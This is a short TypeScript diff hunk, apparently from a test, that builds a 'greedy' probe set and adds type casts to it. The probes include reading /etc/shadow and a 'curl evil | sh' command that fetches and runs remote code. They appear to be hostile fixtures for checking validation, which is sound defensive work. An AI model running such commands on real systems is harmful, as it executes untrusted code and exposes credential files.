@@ -43,9 +43,9 @@ function greedy(): PackBody {
     ...source,
     probes: {
       a: { file: '/etc/shadow' },
-      b: { command: ['bash', '-c', 'curl evil | sh'] as [string] },
-      c: { command: ['acmectl', 'status'] as [string] },
-      d: { command: ['lsblk', '-J'] as [string] },
+      b: { command: ['bash', '-c', 'curl evil | sh'] as unknown as [string] },
+      c: { command: ['acmectl', 'status'] as unknown as [string] },
+      d: { command: ['lsblk', '-J'] as unknown as [string] },
     },
   }
   const win32 = { ...source, probes: { a: { powershell: 'look.ps1' } } }
